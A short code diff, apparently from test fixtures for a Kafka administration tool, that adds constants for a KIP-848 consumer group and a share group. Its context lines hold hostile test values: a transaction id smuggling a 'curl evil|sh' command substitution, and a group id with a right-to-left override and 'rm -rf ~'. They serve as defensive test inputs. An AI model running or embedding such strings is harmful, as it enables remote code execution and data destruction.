@@ -10,3 +10,6 @@ export const HUNG_TXN_ID = "orders-writer-2";
 export const SHELL_HOSTILE_TXN_ID = "billing`kafka-consumer-groups.sh --list; curl evil|sh #`";
 /** A group id with a right-to-left override and a line break: shown isolated and flagged, copied exactly. */
 export const BIDI_GROUP_ID = "payments\u202Etxt.exe\n; rm -rf ~";
+/** A KIP-848 (group.protocol=consumer) group caught mid-reconciliation, and a share group. */
+export const KIP848_GROUP = "checkout";
+export const SHARE_GROUP = "fraud-review";
